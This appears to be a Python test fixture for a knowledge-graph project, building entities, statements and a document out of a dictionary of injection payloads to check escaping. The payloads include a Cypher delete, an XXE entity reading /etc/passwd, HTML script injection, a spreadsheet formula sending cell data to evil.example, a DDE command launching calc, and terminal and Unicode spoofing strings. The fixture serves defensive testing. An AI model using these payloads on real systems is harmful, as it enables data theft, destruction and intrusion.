"""Names, sentences and addresses that try to be more than text, wherever they are written to or shown."""

from typing import Final

from graph.document import Document
from graph.entity import Entity
from graph.evidence import Evidence
from graph.statement import Statement

#: By what they aim at. A script that runs sets `window.hacked`; a triple or a node that gets in is of `Hacked`.
ATTACKS: Final = {
    "cypher": "'}) DETACH DELETE n // \\u0027 \"}) CREATE (:Hacked {id: `x`}) //",
    "turtle": '" . <urn:hacked> a <urn:Hacked> . """ } <urn:hacked> {',
    "ntriples": '\\" .\n<urn:hacked> <urn:is> <urn:Hacked> .',
    "xml": "]]></data></node><node id='Hacked'/><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "html": "</script></title><img src=x onerror=window.hacked=1><svg onload=window.hacked=2>{{ 7 * 7 }}",
    "formula": '=HYPERLINK("https://evil.example?"&A1)',
    "blank before a formula": " \t@SUM(1+1)*cmd|' /C calc'!A0",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b1A\r\x08",
    "direction": "\u202eaissuR\u202c \u2067Iran\u2069 \u200f",
    "look-alike": "\u0421hina",
    "zero": "No\x00thing",
    "line": "first\u2028second\u0085third",
    "json": '"}, {"@id": "urn:hacked"}, {"x": "\\',
}


def hostile() -> tuple[list[Statement], Document]:
    """Return statements between actors named by the attacks, in a document that is made of them."""
    text = "\n\n".join(ATTACKS.values())
    document = Document("javascript:window.hacked=3", text, ATTACKS["html"], "2024-05-06", ATTACKS["formula"])
    actors = [
        Entity(f"organization/attack-{number}", "Organization", attack, (f"{attack} too",))
        for number, attack in enumerate(ATTACKS.values())
    ]
    return [
        Statement(actor, "SUPPORTS", actors[number - 1], evidence=(_place(document, actor.name),))
        for number, actor in enumerate(actors)
    ], document


def _place(document: Document, sentence: str) -> Evidence:
    start = document.text.index(sentence)
    return Evidence(
        document.id, sentence, start, start + len(sentence), document.uri, confidence=0.9, attributed_to=sentence,
        properties=(("status", sentence),),
    )  # fmt: skip
